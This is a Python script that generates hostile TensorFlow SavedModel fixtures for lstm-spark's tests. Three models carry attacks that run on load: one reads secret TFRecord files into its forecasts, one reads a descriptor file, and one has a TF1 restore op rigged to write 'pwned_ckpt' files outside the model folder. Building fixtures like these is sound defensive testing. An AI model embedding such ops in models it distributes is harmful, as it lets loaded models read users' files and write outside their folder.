"""Writes the small hostile and random models under this folder, for the tests that lstm-spark refuses them.

Run once with TensorFlow 2.21 (pip install tensorflow-cpu): python make_hostile.py. The results are
committed, so the build and the tests need only Java and Maven. Every model takes windows
[?, 6, 2] float32 (signature serving_default, input x, output output_0), like the fixtures.

  record_input        TF2 SavedModel whose serving function reads the TFRecord files matching
                      /tmp/lstm-spark-secret*.tfrecord with RecordInput and puts their first bytes into
                      every forecast.
  decode_proto_file   TF2 SavedModel whose serving function runs DecodeProtoV2 with descriptor_source
                      /tmp/lstm-spark-descriptor.pb: the op reads that file when it is built.
  tf1_restore_writes  TF1 SavedModel (SavedModelBuilder) whose saver's restore op, which the loader runs,
                      also runs a SaveV2 that writes pwned_ckpt.index and pwned_ckpt.data-* into the folder
                      that holds the model's folder (its prefix is the fed variables path with
                      <model>/variables/variables turned into <model>/../pwned_ckpt).
  random_output       TF2 SavedModel whose output adds tf.random.uniform noise (RandomUniform) to a
                      sum of the window: the same windows give different outputs.
"""
import os
import shutil

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")

import tensorflow as tf

HERE = os.path.dirname(os.path.abspath(__file__))
LENGTH, FEATURES = 6, 2
WINDOWS = tf.TensorSpec([None, LENGTH, FEATURES], tf.float32, name="x")


def target(name):
    path = os.path.join(HERE, name, "saved_model")
    shutil.rmtree(os.path.dirname(path), ignore_errors=True)
    os.makedirs(os.path.dirname(path))
    return path


def save(name, serve):
    module = tf.Module()
    module.serve = tf.function(serve, input_signature=[WINDOWS])
    tf.saved_model.save(module, target(name), signatures={"serving_default": module.serve})


def window_sum(x):
    return tf.reduce_sum(x, axis=[1, 2])[:, None]


def record_input(x):
    records = tf.raw_ops.RecordInput(file_pattern="/tmp/lstm-spark-secret*.tfrecord", file_random_seed=1,
                                     file_shuffle_shift_ratio=0.0, file_buffer_size=1, file_parallelism=1,
                                     batch_size=1)
    secret = tf.cast(tf.io.decode_raw(records, tf.uint8)[:, :8], tf.float32)
    return {"output_0": window_sum(x) * 0 + secret}


def decode_proto_file(x):
    _, (value,) = tf.io.decode_proto(tf.constant([b""]), "lstmspark.Secret", ["value"], [tf.float32],
                                     descriptor_source="/tmp/lstm-spark-descriptor.pb")
    return {"output_0": window_sum(x) + tf.reduce_sum(value)}


def random_output(x):
    return {"output_0": window_sum(x) + tf.random.uniform(tf.stack([tf.shape(x)[0], 1]))}


def tf1_restore_writes():
    v1 = tf.compat.v1
    path = target("tf1_restore_writes")
    graph = tf.Graph()
    with graph.as_default(), v1.Session(graph=graph) as session:
        x = v1.placeholder(tf.float32, [None, LENGTH, FEATURES], name="x")
        weight = v1.get_variable("weight", initializer=tf.constant(0.5))
        y = tf.identity(window_sum(x) * weight, name="y")
        saver = v1.train.Saver(sharded=True)
        saver_def = saver.as_saver_def()
        filename = graph.get_tensor_by_name(saver_def.filename_tensor_name)
        elsewhere = tf.strings.regex_replace(filename, "variables/variables$", "../pwned_ckpt")
        pwn = tf.raw_ops.SaveV2(prefix=elsewhere, tensor_names=["pwned"], shape_and_slices=[""],
                                tensors=[tf.constant("pwned")])
        restore_and_write = tf.group(graph.get_operation_by_name(saver_def.restore_op_name), pwn,
                                     name="restore_and_write")
        saver_def.restore_op_name = restore_and_write.name
        hostile_saver = v1.train.Saver(saver_def=saver_def)
        session.run(v1.global_variables_initializer())
        builder = v1.saved_model.Builder(path)
        signature = v1.saved_model.predict_signature_def({"x": x}, {"output_0": y})
        builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature},
                                             saver=hostile_saver, strip_default_attrs=True)
        builder.save()
    return path


if __name__ == "__main__":
    save("record_input", record_input)
    save("decode_proto_file", decode_proto_file)
    save("random_output", random_output)
    tf1_path = tf1_restore_writes()
    # The attack works: TensorFlow's own loader writes the files next to the model's folder.
    written = os.path.join(HERE, "tf1_restore_writes", "pwned_ckpt.index")
    with tf.Graph().as_default(), tf.compat.v1.Session() as session:
        tf.compat.v1.saved_model.load(session, ["serve"], tf1_path)
    assert os.path.exists(written), written
    for leftover in os.listdir(os.path.dirname(written)):
        if leftover.startswith("pwned_ckpt"):
            os.remove(os.path.join(os.path.dirname(written), leftover))
